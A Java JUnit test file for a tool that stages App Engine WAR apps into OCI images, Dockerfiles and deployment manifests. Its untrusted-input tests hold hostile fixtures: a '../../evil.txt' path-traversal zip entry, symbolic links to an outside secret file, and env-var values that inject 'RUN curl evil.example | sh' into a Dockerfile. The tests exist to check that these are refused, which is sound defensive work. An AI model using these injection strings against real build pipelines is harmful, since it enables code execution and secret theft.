package dev.aerun.stage;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.aerun.stage.oci.ImageToolAccess;
import dev.aerun.stage.oci.TarReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPInputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.Yaml;

class StageTest {
  static final String DESCRIPTOR =
      "<appengine-web-app xmlns=\"http://appengine.google.com/ns/1.0\">"
          + "<runtime>java17</runtime><service>shop</service>"
          + "<automatic-scaling><max-instances>3</max-instances></automatic-scaling>"
          + "<env-variables><env-var name=\"COLOR\" value=\"blue\"/></env-variables>"
          + "</appengine-web-app>";

  @TempDir Path dir;
  Path base;

  /** A stand-in runtime image: a tiny root file system written by the same image writer. */
  @BeforeEach
  void baseImage() throws IOException {
    Path rootfs = Files.createDirectories(dir.resolve("rootfs/etc"));
    Files.writeString(
        rootfs.resolve("passwd"), "nonroot:x:65532:65532::/home/nonroot:/sbin/nologin\n");
    base = Files.createDirectories(dir.resolve("images"));
    ImageToolAccess.run(
        "--out", base.resolve("java17.tar").toString(),
        "--ref", "aerun/java17:latest",
        "--layer", dir.resolve("rootfs") + "@rootfs",
        "--entrypoint", "[\"/usr/bin/java\",\"-jar\",\"/opt/aerun/runtime-main.jar\"]",
        "--env", "PORT=8080",
        "--env", "AERUN_APP=/app",
        "--user", "65532:65532");
  }

  Path war(String descriptor, String... extraEntries) throws IOException {
    Path war = dir.resolve("shop.war");
    try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(war))) {
      zip.putNextEntry(new ZipEntry("WEB-INF/appengine-web.xml"));
      zip.write(descriptor.getBytes(StandardCharsets.UTF_8));
      zip.putNextEntry(new ZipEntry("index.html"));
      zip.write("<h1>shop</h1>".getBytes(StandardCharsets.UTF_8));
      for (String e : extraEntries) {
        zip.putNextEntry(new ZipEntry(e));
        zip.write(1);
      }
    }
    return war;
  }

  int stage(PrintStream out, PrintStream err, String... args) {
    return Stage.run(args, null, out, err);
  }

  @Test
  void stage_writesImageAndManifestsNamingIt() throws Exception {
    Path out = dir.resolve("out");
    ByteArrayOutputStream stdout = new ByteArrayOutputStream();
    int exit =
        stage(
            new PrintStream(stdout),
            System.err,
            "--base",
            base.toString(),
            "--image-repo",
            "europe-docker.pkg.dev/p/r/shop",
            war(DESCRIPTOR).toString(),
            out.toString());
    assertEquals(0, exit, stdout.toString());
    for (String f :
        List.of("image.tar", "service.yaml", "kubernetes.yaml", "app.yaml", "Dockerfile")) {
      assertTrue(Files.isRegularFile(out.resolve(f)), f);
    }
    Map<String, byte[]> archive;
    try (InputStream in = Files.newInputStream(out.resolve("image.tar"))) {
      archive = TarReader.readAll(in);
    }
    ObjectMapper json = new ObjectMapper();
    JsonNode index = json.readTree(archive.get("index.json"));
    String digest = index.path("manifests").path(0).path("digest").asText();
    byte[] manifestBytes = archive.get("blobs/sha256/" + digest.substring(7));
    assertEquals(digest, "sha256:" + sha256(manifestBytes), "the digest is the manifest's");

    String image = "europe-docker.pkg.dev/p/r/shop@" + digest;
    Map<String, Object> run = new Yaml().load(Files.readString(out.resolve("service.yaml")));
    assertEquals(
        image, ManifestsTest.at(run, "spec", "template", "spec", "containers", 0, "image"));
    // The front ends terminate TLS: trusted for X-Forwarded-* only (docs/DEPLOY.md).
    assertEquals(
        List.of("--forwarded-from", Manifests.CLOUD_RUN_FORWARDERS),
        ManifestsTest.at(run, "spec", "template", "spec", "containers", 0, "args"));
    for (Object doc : new Yaml().loadAll(Files.readString(out.resolve("kubernetes.yaml")))) {
      if ("Deployment".equals(ManifestsTest.at(doc, "kind"))) {
        assertEquals(
            image, ManifestsTest.at(doc, "spec", "template", "spec", "containers", 0, "image"));
        assertEquals(
            List.of("--forwarded-from", Manifests.GKE_FORWARDERS),
            ManifestsTest.at(doc, "spec", "template", "spec", "containers", 0, "args"));
      }
    }

    JsonNode manifest = json.readTree(manifestBytes);
    assertEquals(2, manifest.path("layers").size(), "the runtime's layer and the app's");
    JsonNode config =
        json.readTree(
            archive.get(
                "blobs/sha256/" + manifest.path("config").path("digest").asText().substring(7)));
    List<String> env = json.convertValue(config.path("config").path("Env"), List.class);
    assertEquals(List.of("PORT=8080", "AERUN_APP=/app", "COLOR=blue"), env);
    assertEquals("65532:65532", config.path("config").path("User").asText());
    assertFalse(env.stream().anyMatch(e -> e.startsWith("GAE_ENV")));

    String appLayer = manifest.path("layers").path(1).path("digest").asText().substring(7);
    Map<String, byte[]> files;
    try (InputStream in =
        new GZIPInputStream(
            new java.io.ByteArrayInputStream(archive.get("blobs/sha256/" + appLayer)))) {
      files = TarReader.readAll(in);
    }
    assertEquals(
        DESCRIPTOR, new String(files.get("app/WEB-INF/appengine-web.xml"), StandardCharsets.UTF_8));
    assertTrue(files.containsKey("app/index.html"), files.keySet()::toString);

    String docker = Files.readString(out.resolve("Dockerfile"));
    String runtimeDigest = Files.readString(base.resolve("java17.tar.digest")).trim();
    assertTrue(docker.contains("aerun/java17@" + runtimeDigest), docker);
  }

  @Test
  void stage_twiceGivesTheSameBytes() throws Exception {
    Path war = war(DESCRIPTOR);
    PrintStream quiet = new PrintStream(new ByteArrayOutputStream());
    assertEquals(
        0,
        stage(
            quiet, quiet, "--base", base.toString(), war.toString(), dir.resolve("a").toString()));
    // A later run, so that any clock in the output would show.
    Thread.sleep(1100);
    assertEquals(
        0,
        stage(
            quiet, quiet, "--base", base.toString(), war.toString(), dir.resolve("b").toString()));
    for (String f :
        List.of("image.tar", "service.yaml", "kubernetes.yaml", "app.yaml", "Dockerfile")) {
      assertArrayEquals(
          Files.readAllBytes(dir.resolve("a").resolve(f)),
          Files.readAllBytes(dir.resolve("b").resolve(f)),
          f);
    }
  }

  @Test
  void withoutBase_findsTheImageBesideTheLauncherFirst_thenInTheMavenRepository() throws Exception {
    String version = RuntimeImages.version();
    assertFalse(version.isBlank() || version.contains("${"), version);
    Path repository = dir.resolve("m2");
    Path installed = Files.createDirectories(repository.resolve("dev/aerun/images/" + version));
    Path archive = installed.resolve("images-" + version + "-java17.tar");
    Files.copy(base.resolve("java17.tar"), archive);
    Files.copy(base.resolve("java17.tar.digest"), Path.of(archive + ".digest"));
    Map<String, String> properties = Map.of("maven.repo.local", repository.toString());
    Path home = dir.resolve("home");

    RuntimeImages images = RuntimeImages.defaults(home, Map.of(), properties);
    assertEquals(archive, images.archive("java17"));
    Stage.Staged staged = Stage.stage(war(DESCRIPTOR), dir.resolve("out"), null, images);
    assertTrue(staged.image().startsWith("shop@sha256:"), staged.image());

    // A distribution's own images/ folder comes first.
    Files.createDirectories(home.resolve("images"));
    Files.copy(base.resolve("java17.tar"), home.resolve("images/java17.tar"));
    assertEquals(home.resolve("images/java17.tar"), images.archive("java17"));
  }

  @Test
  void withoutBase_noImageAnywhere_namesWhereItLookedAndTheCommand() {
    RuntimeImages images =
        RuntimeImages.defaults(
            dir.resolve("home"),
            Map.of("MAVEN_REPO_LOCAL", dir.resolve("none").toString()),
            Map.of());
    StageException e = assertThrows(StageException.class, () -> images.archive("java21"));
    assertTrue(
        e.getMessage().contains(dir.resolve("home/images/java21.tar").toString()), e.getMessage());
    assertTrue(
        e.getMessage().contains(dir.resolve("none/dev/aerun/images").toString()), e.getMessage());
    assertTrue(e.getMessage().contains("mvn -pl images -am install -Pall-images"), e.getMessage());
    assertTrue(e.getMessage().contains("--base"), e.getMessage());
  }

  @Test
  void imageArchive_isReadByTar() throws Exception {
    Path out = dir.resolve("out");
    PrintStream quiet = new PrintStream(new ByteArrayOutputStream());
    assertEquals(
        0,
        stage(quiet, quiet, "--base", base.toString(), war(DESCRIPTOR).toString(), out.toString()));
    Process tar =
        new ProcessBuilder("tar", "-tvf", out.resolve("image.tar").toString())
            .redirectErrorStream(true)
            .start();
    String listing = new String(tar.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertTrue(tar.waitFor(60, TimeUnit.SECONDS));
    assertEquals(0, tar.exitValue(), listing);
    assertTrue(listing.contains("index.json") && listing.contains("oci-layout"), listing);
    assertTrue(listing.contains("manifest.json"), listing);
  }

  @Test
  void warEntryOutsideTheApp_isRefused() throws Exception {
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    int exit =
        stage(
            System.out,
            new PrintStream(err),
            "--base",
            base.toString(),
            war(DESCRIPTOR, "../../evil.txt").toString(),
            dir.resolve("out").toString());
    assertEquals(1, exit);
    assertTrue(err.toString().startsWith("error: "), err.toString());
    assertTrue(err.toString().contains("outside the app"), err.toString());
    assertFalse(Files.exists(dir.resolve("evil.txt")));
  }

  @Test
  void unmappableDescriptor_oneErrorLineAndNoImage() throws Exception {
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    String bad =
        DESCRIPTOR.replace(
            "<runtime>java17</runtime>",
            "<runtime>java17</runtime><instance-class>F9</instance-class>");
    int exit =
        stage(
            System.out,
            new PrintStream(err),
            "--base",
            base.toString(),
            war(bad).toString(),
            dir.resolve("out").toString());
    assertEquals(1, exit);
    assertEquals(1, err.toString().lines().count(), err.toString());
    assertTrue(
        err.toString().startsWith("error: <instance-class>F9</instance-class>"), err.toString());
    assertFalse(Files.exists(dir.resolve("out/image.tar")));
  }

  @Test
  void missingRuntimeImage_namesTheBuildCommand() throws Exception {
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    String java21 = DESCRIPTOR.replace("java17", "java21");
    int exit =
        stage(
            System.out,
            new PrintStream(err),
            "--base",
            base.toString(),
            war(java21).toString(),
            dir.resolve("out").toString());
    assertEquals(1, exit);
    assertTrue(
        err.toString().contains("java21.tar") && err.toString().contains("-Pall-images"),
        err.toString());
  }

  @Test
  void badCommandLine_isUsage() {
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    assertEquals(2, stage(System.out, new PrintStream(err), "only-one-arg"));
    assertTrue(err.toString().startsWith("error: stage needs an app"), err.toString());
  }

  static String sha256(byte[] bytes) throws Exception {
    return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
  }

  // ---- Inputs stage must not trust ----

  /** An exploded copy of the app: its descriptor and index page. */
  Path explodedApp(String descriptor) throws IOException {
    Path app = Files.createDirectories(dir.resolve("exploded/WEB-INF")).getParent();
    Files.writeString(app.resolve("WEB-INF/appengine-web.xml"), descriptor);
    Files.writeString(app.resolve("index.html"), "<h1>shop</h1>");
    Files.createDirectories(app.resolve("css"));
    Files.writeString(app.resolve("css/site.css"), "body{}");
    return app;
  }

  private String stageFailing(Path app) {
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    int exit =
        stage(
            System.out,
            new PrintStream(err),
            "--base",
            base.toString(),
            app.toString(),
            dir.resolve("out").toString());
    assertEquals(1, exit, err.toString());
    assertEquals(1, err.toString().lines().count(), err.toString());
    assertTrue(err.toString().startsWith("error: "), err.toString());
    assertFalse(Files.exists(dir.resolve("out/image.tar")), "nothing half-staged");
    assertFalse(Files.exists(dir.resolve("out/Dockerfile")), "nothing half-staged");
    return err.toString();
  }

  @Test
  void symbolicLinkLeadingOutOfTheApp_isRefused() throws Exception {
    Path secret = Files.writeString(dir.resolve("build-machine-secret.txt"), "s3cr3t");
    Path outside = Files.createDirectories(dir.resolve("outside"));
    Files.writeString(outside.resolve("x"), "s3cr3t");
    for (String[] link :
        new String[][] {
          {"css/passwd", secret.toString()},
          {"css/relative", "../../build-machine-secret.txt"},
          {"data", outside.toString()},
          {"WEB-INF/lib", "../../outside"},
          {"dangling", "no-such-file"}
        }) {
      Path app = explodedApp(DESCRIPTOR);
      Files.createSymbolicLink(app.resolve(link[0]), Path.of(link[1]));
      String error = stageFailing(app);
      assertTrue(error.contains("symbolic link " + link[0] + " -> " + link[1]), error);
      assertTrue(
          error.contains("leads out of the app") || error.contains("leads to nothing"), error);
      assertFalse(Files.exists(dir.resolve("out/app")), "the partial copy is removed");
      deleteTree(app);
    }
  }

  @Test
  void symbolicLinksInsideTheApp_stayLinks_inTheCopyAndTheImage() throws Exception {
    Path app = explodedApp(DESCRIPTOR);
    Files.createSymbolicLink(app.resolve("alias.html"), Path.of("index.html"));
    Files.createSymbolicLink(app.resolve("styles"), Path.of("css"));
    Files.createSymbolicLink(app.resolve("css/home.html"), app.resolve("index.html"));
    Path out = dir.resolve("out");
    assertEquals(
        0,
        stage(System.out, System.err, "--base", base.toString(), app.toString(), out.toString()));
    assertEquals(Path.of("index.html"), Files.readSymbolicLink(out.resolve("app/alias.html")));
    assertEquals(Path.of("css"), Files.readSymbolicLink(out.resolve("app/styles")));
    assertEquals(
        Path.of("../index.html"),
        Files.readSymbolicLink(out.resolve("app/css/home.html")),
        "an absolute link into the app becomes relative: it works wherever the app goes");

    Map<String, String> layer = appLayerEntries(out.resolve("image.tar"));
    assertEquals("link index.html", layer.get("app/alias.html"));
    assertEquals("link css", layer.get("app/styles"));
    assertEquals("link ../index.html", layer.get("app/css/home.html"));
    assertEquals("file", layer.get("app/index.html"));
  }

  @Test
  void aRelativeOutputFolder_works() throws Exception {
    Path out = dir.resolve("relative-out");
    String relative =
        "./" + Path.of("").toAbsolutePath().relativize(out.toAbsolutePath()).toString();
    assertTrue(!Path.of(relative).isAbsolute(), relative);
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    for (Path app : List.of(war(DESCRIPTOR, "css/site.css"), explodedApp(DESCRIPTOR))) {
      int exit =
          stage(
              System.out,
              new PrintStream(err),
              "--base",
              base.toString(),
              app.toString(),
              relative);
      assertEquals(0, exit, err.toString());
      assertTrue(Files.isRegularFile(out.resolve("app/index.html")), app.toString());
      assertTrue(Files.isRegularFile(out.resolve("app/css/site.css")), app.toString());
      assertTrue(Files.isRegularFile(out.resolve("image.tar")));
    }
  }

  @Test
  void envValueWithALineBreak_isRefused_namingTheVariable() throws Exception {
    for (String value : List.of("a&#10;RUN curl evil.example | sh", "a&#13;b", "&#10;")) {
      String descriptor =
          DESCRIPTOR.replace(
              "<env-var name=\"COLOR\" value=\"blue\"/>",
              "<env-var name=\"COLOR\" value=\"blue\"/><env-var name=\"INJECTED\" value=\""
                  + value
                  + "\"/>");
      String error = stageFailing(war(descriptor));
      assertTrue(error.contains("<env-var name=\"INJECTED\">"), error);
      assertTrue(error.contains("line break"), error);
      assertFalse(error.contains("RUN") || error.contains("evil"), "never the value: " + error);
    }
  }

  @Test
  void envNameWithALineBreak_isADescriptorError_withItsPosition() throws Exception {
    String descriptor =
        DESCRIPTOR.replace(
            "<env-var name=\"COLOR\" value=\"blue\"/>",
            "<env-var name=\"COLOR&#10;RUN curl evil.example | sh&#10;ENV X\" value=\"1\"/>");
    String error = stageFailing(war(descriptor));
    assertTrue(error.startsWith("error: shop.war!/WEB-INF/appengine-web.xml:1:"), error);
    assertTrue(error.contains("env-var"), error);
    assertTrue(error.contains("is not valid"), error);
  }

  @Test
  void everyOtherEnvValue_isOneWordOfItsEnvLine_inTheDockerfile() throws Exception {
    List<String> values =
        List.of(
            "plain",
            "with \"quotes\" and 'single'",
            "back\\slash\\",
            "trailing backslash\\",
            "$HOME ${PATH} $(id) `id`",
            "# not a comment",
            "tab\there",
            "& <tag> &amp;",
            " spaced ",
            "unicode \u00e9\u2028\u2029 end",
            "");
    String descriptor =
        DESCRIPTOR.replace(
            "<env-var name=\"COLOR\" value=\"blue\"/>", ManifestsTest.envVars(values));
    Path out = dir.resolve("out");
    assertEquals(
        0,
        stage(
            System.out,
            System.err,
            "--base",
            base.toString(),
            war(descriptor).toString(),
            out.toString()));
    List<String> lines = Files.readAllLines(out.resolve("Dockerfile"));
    List<String> env = lines.stream().filter(l -> l.startsWith("ENV ")).toList();
    assertEquals(values.size(), env.size(), lines::toString);
    assertEquals(
        lines.size(),
        lines.stream()
            .filter(
                l ->
                    l.startsWith("#")
                        || l.startsWith("ARG ")
                        || l.startsWith("FROM ")
                        || l.startsWith("COPY ")
                        || l.startsWith("ENV "))
            .count(),
        "every line is one of the writer's own instructions: " + lines);
    for (int i = 0; i < values.size(); i++) {
      assertEquals(values.get(i), dockerWord(env.get(i), "V" + i), env.get(i));
    }
  }

  /**
   * The value of {@code ENV NAME="..."} as Docker reads one double-quoted word: {@code \\}, {@code
   * \"} and {@code \$} are escapes; the word must end the line.
   */
  private static String dockerWord(String line, String name) {
    String prefix = "ENV " + name + "=\"";
    assertTrue(line.startsWith(prefix), line);
    StringBuilder value = new StringBuilder();
    int i = prefix.length();
    for (; i < line.length(); i++) {
      char c = line.charAt(i);
      if (c == '\\') {
        char next = line.charAt(++i);
        assertTrue(next == '\\' || next == '"' || next == '$', "escape \\" + next + " in " + line);
        value.append(next);
      } else if (c == '"') {
        break;
      } else {
        assertFalse(c == '$', "an unescaped $ in " + line);
        value.append(c);
      }
    }
    assertEquals(line.length() - 1, i, "the closing quote ends the line: " + line);
    return value.toString();
  }

  /** The app layer's entries of an image archive: "file", "dir" or "link TARGET". */
  private static Map<String, String> appLayerEntries(Path imageTar) throws Exception {
    Map<String, byte[]> archive;
    try (InputStream in = Files.newInputStream(imageTar)) {
      archive = TarReader.readAll(in);
    }
    ObjectMapper json = new ObjectMapper();
    JsonNode index = json.readTree(archive.get("index.json"));
    String digest = index.path("manifests").path(0).path("digest").asText().substring(7);
    JsonNode manifest = json.readTree(archive.get("blobs/sha256/" + digest));
    String layer = manifest.path("layers").path(1).path("digest").asText().substring(7);
    byte[] tar;
    try (InputStream in =
        new GZIPInputStream(
            new java.io.ByteArrayInputStream(archive.get("blobs/sha256/" + layer)))) {
      tar = in.readAllBytes();
    }
    Map<String, String> entries = new java.util.LinkedHashMap<>();
    for (int at = 0; at + 512 <= tar.length; ) {
      String name = field(tar, at, 100);
      if (name.isEmpty()) {
        break;
      }
      long size = Long.parseLong(field(tar, at + 124, 12).trim(), 8);
      char type = (char) tar[at + 156];
      entries.put(
          name.endsWith("/") ? name.substring(0, name.length() - 1) : name,
          switch (type) {
            case '2' -> "link " + field(tar, at + 157, 100);
            case '5' -> "dir";
            default -> "file";
          });
      at += 512 + (int) ((size + 511) / 512 * 512);
    }
    return entries;
  }

  private static String field(byte[] block, int offset, int length) {
    int end = offset;
    while (end < offset + length && block[end] != 0) {
      end++;
    }
    return new String(block, offset, end - offset, StandardCharsets.UTF_8);
  }

  private static void deleteTree(Path root) throws IOException {
    try (var walk = Files.walk(root)) {
      for (Path p : walk.sorted(java.util.Comparator.reverseOrder()).toList()) {
        Files.delete(p);
      }
    }
  }
}
